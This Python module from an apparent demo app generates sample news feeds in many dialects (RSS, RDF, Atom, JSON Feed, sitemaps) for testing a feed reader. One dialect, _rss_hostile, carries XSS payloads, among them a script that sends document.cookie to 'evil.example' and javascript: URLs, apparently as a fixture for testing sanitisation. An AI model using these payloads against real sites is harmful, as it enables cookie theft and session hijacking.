"""The feeds of the sample wire, one dialect an outlet: each as a real site would write it, oddities included."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC
from email.utils import format_datetime
from xml.sax.saxutils import escape, quoteattr

from prism.app.demo.content import Item, Outlet

_TEASER = 90


@dataclass(frozen=True, slots=True)
class Document:
    """What stands at an address: text before it is encoded, and its media type without a charset."""

    text: str
    media_type: str


Documents = Mapping[str, Document]
"""By path; the outlet's `feed_path` is always among them."""


def documents(outlet: Outlet, items: Sequence[Item], origin: str) -> Documents:
    """The feed of an outlet, with the further documents that it points at.

    Args:
        outlet: whose.
        items: its articles, oldest first.
        origin: "http://127.0.0.1:8123".
    """
    return DIALECTS[outlet.dialect](outlet, tuple(reversed(items)), origin)


def link(item: Item, origin: str) -> str:
    """The address of an article as the outlet's feed gives it, tracking parameters included."""
    if not item.outlet.tracking:
        return origin + item.path
    return f"{origin}{item.path}{'&' if '?' in item.path else '?'}{item.outlet.tracking}"


def _teaser(item: Item) -> str:
    words = item.summary
    return words if len(words) <= _TEASER else words[:_TEASER].rstrip() + "…"


def _channel(outlet: Outlet, origin: str) -> str:
    return (
        f"<title>{escape(outlet.name)}</title><link>{origin}/</link>"
        f"<description>{escape(outlet.tagline)}</description><language>{outlet.language}</language>"
    )


def _rss_full(outlet: Outlet, items: Sequence[Item], origin: str) -> Documents:
    """RSS 2.0 with the whole text in content:encoded."""
    rows = "".join(
        f"<item><title><![CDATA[{i.title}]]></title><link>{link(i, origin)}</link>"
        f'<guid isPermaLink="true">{origin}{i.path}</guid>'
        f"<dc:creator><![CDATA[{', '.join(i.authors)}]]></dc:creator><category>{escape(i.section)}</category>"
        f"<description><![CDATA[{i.summary}]]></description>"
        f"<content:encoded><![CDATA[{''.join(f'<p>{escape(p)}</p>' for p in i.paragraphs)}]]></content:encoded>"
        f"<pubDate>{format_datetime(i.published)}</pubDate></item>\n"
        for i in items
    )
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom"><channel>'
        f"{_channel(outlet, origin)}"
        f'<atom:link href="{origin}{outlet.feed_path}" rel="self" type="application/rss+xml"/>'
        f"<ttl>10</ttl>\n{rows}</channel></rss>"
    )
    return {outlet.feed_path: Document(text, "application/rss+xml")}


def _rss_teaser(outlet: Outlet, items: Sequence[Item], origin: str) -> Documents:
    """RSS 2.0 in a legacy encoding: cut teasers, and dates without a zone in a form of its own."""
    rows = "".join(
        f"<item><title><![CDATA[{i.title}]]></title><link><![CDATA[{link(i, origin)}]]></link>"
        f"<description><![CDATA[{_teaser(i)}]]></description><author>{escape(', '.join(i.authors))}</author>"
        f"<pubDate>{i.published:%Y-%m-%d %H:%M:%S}</pubDate></item>\n"
        for i in items
    )
    text = (
        f'<?xml version="1.0" encoding="euc-kr"?>\n<rss version="2.0"><channel>'
        f"{_channel(outlet, origin)}<copyright>Copyright (c) {escape(outlet.name)}</copyright>\n{rows}</channel></rss>"
    )
    return {outlet.feed_path: Document(text, "text/xml")}


def _rss_brief(outlet: Outlet, items: Sequence[Item], origin: str) -> Documents:
    """RSS 2.0 with one sentence an item, guids that are no addresses, and RFC 822 dates."""
    rows = "".join(
        f"<item><title>{escape(i.title)}</title><link>{escape(link(i, origin))}</link>"
        f'<guid isPermaLink="false">{outlet.id}:{escape(i.slug)}</guid>'
        f"<description>{escape(i.summary)}</description><pubDate>{format_datetime(i.published)}</pubDate></item>\n"
        for i in items
    )
    text = (
        f'<?xml version="1.0" encoding="Shift_JIS"?>\n<rss version="2.0"><channel>'
        f"{_channel(outlet, origin)}\n{rows}</channel></rss>"
    )
    return {outlet.feed_path: Document(text, "application/xml")}


def _rss_undated(outlet: Outlet, items: Sequence[Item], origin: str) -> Documents:
    """RSS 2.0 in GBK with no dates, no guids and addresses from the root."""
    rows = "".join(
        f"<item><title>{escape(i.title)}</title><link>{escape(i.path)}</link>"
        f"<description>{escape(i.summary)}</description></item>\n"
        for i in items
    )
    text = (
        f'<?xml version="1.0" encoding="gb2312"?>\n<rss version="2.0"><channel>'
        f"{_channel(outlet, origin)}\n{rows}</channel></rss>"
    )
    return {outlet.feed_path: Document(text, "text/xml")}


def _rss_old(outlet: Outlet, items: Sequence[Item], origin: str) -> Documents:
    """RSS 0.91: title, link, description, nothing else."""
    rows = "".join(
        f"<item><title>{escape(i.title)}</title><link>{escape(link(i, origin))}</link>"
        f"<description>{escape(i.summary)}</description></item>\n"
        for i in items
    )
    text = (
        f'<?xml version="1.0" encoding="windows-1252"?>\n<rss version="0.91"><channel>'
        f"{_channel(outlet, origin)}\n{rows}</channel></rss>"
    )
    return {outlet.feed_path: Document(text, "text/xml")}


def _rdf(outlet: Outlet, items: Sequence[Item], origin: str) -> Documents:
    """RSS 1.0: RDF, with Dublin Core dates."""
    sequence = "".join(f"<rdf:li rdf:resource={quoteattr(link(i, origin))}/>" for i in items)
    rows = "".join(
        f"<item rdf:about={quoteattr(link(i, origin))}><title>{escape(i.title)}</title>"
        f"<link>{escape(link(i, origin))}</link><description>{escape(i.summary)}</description>"
        f"<dc:date>{i.published.isoformat()}</dc:date><dc:subject>{escape(i.section)}</dc:subject></item>\n"
        for i in items
    )
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<rdf:RDF xmlns="http://purl.org/rss/1.0/"'
        ' xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/"'
        f' xml:lang="{outlet.language}"><channel rdf:about="{origin}{outlet.feed_path}">'
        f"<title>{escape(outlet.name)}</title><link>{origin}/</link>"
        f"<description>{escape(outlet.tagline)}</description><items><rdf:Seq>{sequence}</rdf:Seq></items></channel>\n"
        f"{rows}</rdf:RDF>"
    )
    return {outlet.feed_path: Document(text, "application/rdf+xml")}


def _atom(outlet: Outlet, items: Sequence[Item], origin: str) -> Documents:
    """Atom with summaries, several links an entry, and ids that are no addresses."""
    rows = "".join(
        f'<entry><id>tag:{outlet.id}.example,2019:{escape(i.slug)}</id><title type="text">{escape(i.title)}</title>'
        f'<link rel="alternate" type="text/html" href={quoteattr(link(i, origin))}/>'
        f'<link rel="replies" href={quoteattr(origin + i.path + "#comments")}/>'
        + "".join(f"<author><name>{escape(a)}</name></author>" for a in i.authors)
        + f"<published>{i.published.astimezone(UTC).strftime('%Y-%m-%dT%H:%M:%SZ')}</published>"
        f"<updated>{(i.updated or i.published).isoformat()}</updated>"
        f'<summary type="html">{escape(f"<p>{escape(i.summary)}</p>")}</summary></entry>\n'
        for i in items
    )
    text = (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en-GB">'
        f"<id>tag:{outlet.id}.example,2019:feed</id><title>{escape(outlet.name)}</title>"
        f'<link rel="self" href="{origin}{outlet.feed_path}"/><link rel="alternate" href="{origin}/"/>'
        f"<updated>{max(i.published for i in items).isoformat()}</updated>\n{rows}</feed>"
    )
    return {outlet.feed_path: Document(text, "application/atom+xml")}


def _jsonfeed(outlet: Outlet, items: Sequence[Item], origin: str) -> Documents:
    """JSON Feed 1.1 with summaries; an item may be listed a second time by its AMP address."""
    rows = [
        {
            "id": f"{outlet.id}-{i.slug}{suffix}",
            "url": origin + i.path + suffix,
            "title": i.title,
            "summary": i.summary,
            "content_text": i.summary,
            "date_published": i.published.isoformat(),
            "date_modified": (i.updated or i.published).isoformat(),
            "authors": [{"name": a} for a in i.authors],
            "tags": [i.section],
        }
        for i in items
        for suffix in (("", "amp/") if i.twice_in_feed else ("",))
    ]
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": outlet.name,
        "home_page_url": f"{origin}/",
        "feed_url": origin + outlet.feed_path,
        "language": "en-US",
        "items": rows,
    }
    return {outlet.feed_path: Document(json.dumps(feed, ensure_ascii=False, indent=1), "application/feed+json")}


def _sitemap(outlet: Outlet, items: Sequence[Item], origin: str) -> Documents:
    """A sitemap index that leads to a news sitemap and to a sitemap of standing pages."""
    name = escape(outlet.name)
    rows = "".join(
        f"<url><loc>{escape(link(i, origin))}</loc><news:news><news:publication><news:name>{name}</news:name>"
        f"<news:language>{outlet.language}</news:language></news:publication>"
        f"<news:publication_date>{i.published.isoformat()}</news:publication_date>"
        f"<news:title>{escape(i.title)}</news:title></news:news></url>\n"
        for i in items
    )
    scheme = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
    head = '<?xml version="1.0" encoding="UTF-8"?>\n'
    newest = max(i.published for i in items).isoformat()
    index = (
        f"{head}<sitemapindex {scheme}>"
        f"<sitemap><loc>{origin}/sitemap-news.xml</loc><lastmod>{newest}</lastmod></sitemap></sitemapindex>"
    )
    news = f'{head}<urlset {scheme} xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">\n{rows}</urlset>'
    return {
        outlet.feed_path: Document(index, "application/xml"),
        "/sitemap-news.xml": Document(news, "application/xml"),
    }


def _rss_hostile(outlet: Outlet, items: Sequence[Item], origin: str) -> Documents:
    """RSS 2.0 that carries script and markup in every field it can."""
    rows = "".join(
        f"<item><title>{escape(i.raw_title or i.title)}</title><link>{escape(link(i, origin))}</link>"
        f"<guid>{escape(i.slug)}</guid><author>{escape(', '.join(i.raw_authors or i.authors))}</author>"
        f'<category>"&gt;&lt;svg onload=steal()&gt;</category><description>{escape(i.summary)}'
        "&lt;script&gt;fetch('//evil.example/'+document.cookie)&lt;/script&gt;</description>"
        '<enclosure url="javascript:alert(1)" length="1" type="text/html"/>'
        f"<pubDate>{format_datetime(i.published)}</pubDate></item>\n"
        for i in items
    )
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet href="javascript:alert(2)"?>\n'
        f'<rss version="2.0"><channel>{_channel(outlet, origin)}\n{rows}</channel></rss>'
    )
    return {outlet.feed_path: Document(text, "application/rss+xml")}


DIALECTS: Mapping[str, Callable[[Outlet, Sequence[Item], str], Documents]] = {
    "atom": _atom,
    "jsonfeed": _jsonfeed,
    "rdf": _rdf,
    "rss-brief": _rss_brief,
    "rss-full": _rss_full,
    "rss-hostile": _rss_hostile,
    "rss-old": _rss_old,
    "rss-teaser": _rss_teaser,
    "rss-undated": _rss_undated,
    "sitemap": _sitemap,
}
"""By the name that `outlets.toml` gives."""
